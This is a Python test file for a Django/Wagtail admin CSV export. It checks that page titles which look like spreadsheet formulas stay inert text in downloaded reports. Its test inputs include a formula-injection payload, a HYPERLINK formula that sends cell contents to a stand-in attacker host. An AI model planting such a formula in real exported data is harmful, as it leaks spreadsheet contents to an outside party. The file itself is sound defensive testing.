"""What people download as a table calculates nothing in their spreadsheet."""

import csv
import io

import pytest
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from home.admin.exports import FORMULA_BEGINS, inert
from tests import office
from tests.translators.people import client_of

FORMULAS = ("=1+1", "+49", "-2", "@SUM(A1)", "\t=1", '=HYPERLINK("http://evil.example/?"&A1,"k")')


@pytest.mark.django_db
@pytest.mark.parametrize("title", FORMULAS)
def test_a_title_that_looks_like_a_formula_stays_text_in_every_report(title):
    office.published_release(title)
    client = client_of("chief")
    for name in ("site_history", "aging_pages"):
        answer = client.get(reverse(f"wagtailadmin_reports:{name}"), {"export": "csv"})
        cells = [
            cell
            for row in csv.reader(io.StringIO(b"".join(answer.streaming_content).decode()))
            for cell in row
        ]
        assert any(title.strip() in cell for cell in cells)
        assert not any(cell.startswith(FORMULA_BEGINS) for cell in cells)


@given(st.text())
def test_no_text_begins_like_a_formula(text):
    assert not str(inert(text)).startswith(FORMULA_BEGINS)
    assert text in str(inert(text))
